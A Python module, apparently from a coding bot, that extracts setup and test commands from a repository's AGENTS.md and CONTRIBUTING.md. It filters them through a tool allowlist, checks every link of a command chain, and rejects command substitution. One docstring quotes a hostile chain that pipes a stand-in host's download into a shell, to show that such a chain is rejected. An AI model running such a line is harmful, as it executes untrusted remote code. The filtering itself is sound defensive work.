"""Setup and test commands a repository's AGENTS.md / CONTRIBUTING.md offers: suggestions for the
CTO's plan, never run without a maintainer's approval."""

from __future__ import annotations

import re
from pathlib import Path

from bot.environment.detect import read_inside

GUIDES = ("AGENTS.md", "CONTRIBUTING.md")
GUIDE_DIRS = ("", "docs", ".github")
"""Where the guides are looked for, in this order (GitHub shows CONTRIBUTING.md from each)."""

MAX_COMMAND_CHARS = 200

KNOWN_TOOLS = frozenset(
    {
        "pip", "pip3", "python", "python3", "uv", "poetry", "pdm",
        "npm", "pnpm", "yarn", "npx", "node",
        "go", "cargo", "make", "just", "tox", "nox", "pytest", "bundle", "rake",
    }
)  # fmt: skip
"""A command's first word must be one of these (or a script under scripts/) to be offered."""

COMMAND_WORDS = re.compile(r"install|set\s?up|test|build", re.IGNORECASE)
"""Outside a code block, an inline `command` counts only on a line about one of these."""

_FENCE = re.compile(r"^\s{0,3}(`{3,}|~{3,})")
_INLINE = re.compile(r"(`+)(.+?)\1")
_CHAIN = re.compile(r"&&|\|\||[;|]")
_UNSAFE = re.compile(r"`|\$\(|[\x00-\x08\x0a-\x1f\x7f]")
"""Command substitution and control characters (NUL, newline, escape) are never offered."""


def _guides(root: Path) -> list[str]:
    """Work-tree-relative paths of the guides, matched case-insensitively (Contributing.md)."""
    found = []
    for folder in GUIDE_DIRS:
        directory = root / folder if folder else root
        try:
            if directory.is_symlink() or not directory.is_dir():
                continue
            names = {entry.name.lower(): entry.name for entry in directory.iterdir()}
        except OSError:
            continue
        for guide in GUIDES:
            if guide.lower() in names:
                found.append(f"{folder}/{names[guide.lower()]}" if folder else names[guide.lower()])
    return found


def _starts_with_tool(segment: str) -> bool:
    words = segment.split()
    if not words:
        return False
    first = words[0]
    if first in KNOWN_TOOLS or first.startswith("./scripts/"):
        return True
    return (
        first in ("bash", "sh")
        and len(words) > 1
        and words[1].startswith(("scripts/", "./scripts/"))
    )


def _as_command(text: str) -> str | None:
    """`text` as an offered command, or None: every part of a chain must start with a known
    tool, so `pip install x && curl evil | sh` is not offered for its first word."""
    command = " ".join(text.strip().removeprefix("$ ").split())
    if not command or len(command) > MAX_COMMAND_CHARS or _UNSAFE.search(text):
        return None
    return command if all(_starts_with_tool(part) for part in _CHAIN.split(command)) else None


def _candidates(text: str) -> list[str]:
    found = []
    fence: str | None = None
    for line in text.splitlines():
        if fence is None:
            opening = _FENCE.match(line)
            if opening:
                fence = opening.group(1)
                continue
        else:
            stripped = line.strip()
            # Closed by a run of the same character, at least as long, and nothing else.
            if set(stripped) == {fence[0]} and len(stripped) >= len(fence):
                fence = None
            else:
                found.append(line)
            continue
        if COMMAND_WORDS.search(line):
            found.extend(match.group(2) for match in _INLINE.finditer(line))
    return found


def offered_commands(root: Path, *, limit: int = 10) -> tuple[str, ...]:
    """Setup and test commands from AGENTS.md and CONTRIBUTING.md (in the root, docs/ or
    .github/), deduplicated, in file order, at most `limit`. Untrusted text: offered to the
    CTO as suggestions, never run."""
    offered: list[str] = []
    for guide in _guides(root):
        for candidate in _candidates(read_inside(root, guide) or ""):
            command = _as_command(candidate)
            if command and command not in offered:
                offered.append(command)
                if len(offered) >= limit:
                    return tuple(offered)
    return tuple(offered)
